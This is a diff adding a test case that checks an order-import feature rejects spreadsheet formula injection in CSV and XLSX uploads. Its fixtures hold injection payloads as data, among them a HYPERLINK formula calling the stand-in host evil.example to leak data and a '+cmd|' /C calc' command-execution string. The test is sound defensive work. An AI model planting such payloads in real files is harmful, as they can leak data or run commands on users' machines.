@@ -112,6 +112,42 @@ describe('order import', () => {
     expect(await orderCount()).toBe(before);
   });
 
+  it('refuses text a spreadsheet would run as a formula, even behind a space, tab, line break or no-break space, naming the cell; numbers stay numbers', async () => {
+    const token = await tokenFor(h, 'manager');
+    const before = await orderCount();
+    const file = { name: 'injection.csv', bytes: [
+      'Order ref,Customer,Due date,SKU,Quantity,Priority,Notes',
+      'PO-7001," =HYPERLINK(""http://evil.example/?leak=1"",""Click"")",2026-12-10,BRK-100,10,,',
+      'PO-7002,"\t=1+1",2026-12-10,BRK-100,10,,',
+      'PO-7003,"\r\n=1+1",2026-12-10,BRK-100,10,,',
+      'PO-7004,\u00A0@SUM(A1),2026-12-10,BRK-100,10,,',
+      "PO-7005,ACME,2026-12-10,BRK-100,10,,+cmd|' /C calc'!A0",
+      'PO-7006,- ACME,2026-12-10,BRK-100,10,,',
+      'PO-7007,ACME,2026-12-10,BRK-100,-5,+2,-',
+    ].join('\n') };
+    const dry = await upload(token, file);
+    expect(dry.status).toBe(200);
+    const byRef = Object.fromEntries(dry.body.rows.map((r: any) => [r.values.externalRef, r]));
+    const messages = (ref: string) => byRef[ref].errors.map((e: any) => e.message);
+    expect(messages('PO-7001')).toEqual(['cell B2 starts with "=", which a spreadsheet would run as a formula; remove the "="']);
+    expect(messages('PO-7002')).toEqual([expect.stringContaining('cell B3 starts with "="')]);
+    expect(messages('PO-7003')).toEqual([expect.stringContaining('cell B4 starts with "="')]);
+    expect(messages('PO-7004')).toEqual([expect.stringContaining('cell B5 starts with "@"')]);
+    expect(messages('PO-7005')).toEqual([expect.stringContaining('cell G6 starts with "+"')]);
+    expect(messages('PO-7006')).toEqual([expect.stringContaining('cell B7 starts with "-"')]);
+    // The refused text is not echoed back in the preview either.
+    expect(byRef['PO-7001'].values.customerName).toBeNull();
+    // -5 is a number (and too small), +2 a priority, a lone "-" an empty note: none of them is a formula.
+    expect(messages('PO-7007')).toEqual(['"-5" is not a whole number of at least 1']);
+    expect(byRef['PO-7007'].values).toMatchObject({ priority: 2, notes: '-' });
+
+    const xlsx = await xlsxBytes(genericOrderLines(1), (ws) => { ws.getCell('B2').value = ' =HYPERLINK("http://evil.example","x")'; });
+    const commit = await upload(token, { name: 'injection.xlsx', bytes: xlsx }, { commit: true });
+    expect(commit.status).toBe(400);
+    expect(JSON.stringify(commit.body.error.details)).toContain('cell B2 starts with \\"=\\"');
+    expect(await orderCount()).toBe(before);
+  });
+
   it('reads ISO, day-first and month-first dates and Excel serials, and refuses impossible ones', () => {
     expect(parseDate('2026-12-01', 'dmy')).toBe('2026-12-01');
     expect(parseDate('01/12/2026', 'dmy')).toBe('2026-12-01');
